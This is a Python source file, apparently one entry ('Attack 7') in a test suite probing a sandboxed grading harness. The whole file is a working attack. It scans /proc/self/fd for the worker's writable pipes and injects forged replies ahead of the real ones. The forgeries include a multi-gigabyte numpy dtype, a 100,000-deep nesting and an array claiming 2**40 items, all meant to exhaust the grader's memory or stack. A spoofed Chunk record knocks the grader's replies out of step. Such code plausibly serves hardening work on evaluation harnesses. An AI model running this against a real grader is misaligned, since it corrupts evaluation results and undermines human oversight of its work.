"""Attack 7 (rag4): write forged replies into every pipe of the worker that is open for writing (found in
/proc/self/fd), ahead of the worker's own reply, one kind per call: a numpy array of dtype S400000000
(1.2 GB in the grader once rebuilt), a value nested 100,000 deep, an array whose shape claims 2**40 items
that are not there, and a well-formed reply claiming a Chunk (a namedtuple of the grader's own name) with
no refusals, which knocks the grader's replies out of step. Each call then fails as the stub does."""

import fcntl
import json
import os
import stat

from kit import stubs

FORGED = [
    json.dumps({"value": {"$": "ndarray", "dtype": "S400000000", "shape": [3], "items": ["a", "b", "c"]},
                "output": "", "refused": []}).encode(),
    b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b', "output": "", "refused": []}',
    json.dumps({"value": {"$": "ndarray", "dtype": "float64", "shape": [1 << 40], "items": []},
                "output": "", "refused": []}).encode(),
    json.dumps({"value": [{"$": "namedtuple", "name": "Chunk", "fields": ["text", "start", "end"],
                           "items": ["", 0, 0]}], "output": "", "refused": []}).encode(),
]


def pipes_to_write() -> list:
    """The worker's file descriptors that are pipes open for writing: the way its replies go."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            mode, flags = os.fstat(int(name)).st_mode, fcntl.fcntl(int(name), fcntl.F_GETFL)
        except OSError:
            continue
        if stat.S_ISFIFO(mode) and flags & os.O_ACCMODE in (os.O_WRONLY, os.O_RDWR):
            found.append(int(name))
    return found


def forge(line: bytes) -> None:
    for fd in pipes_to_write():
        data = line + b"\n"
        try:
            while data:
                data = data[os.write(fd, data):]
        except OSError:
            continue


def attack(lab: dict) -> None:
    calls = [0]

    def forging(stub):
        def call(*args, **kwargs):
            if calls[0] < len(FORGED):
                forge(FORGED[calls[0]])
            calls[0] += 1
            return stub(*args, **kwargs)

        return call

    for key in stubs(lab):
        lab[key] = forging(lab[key])
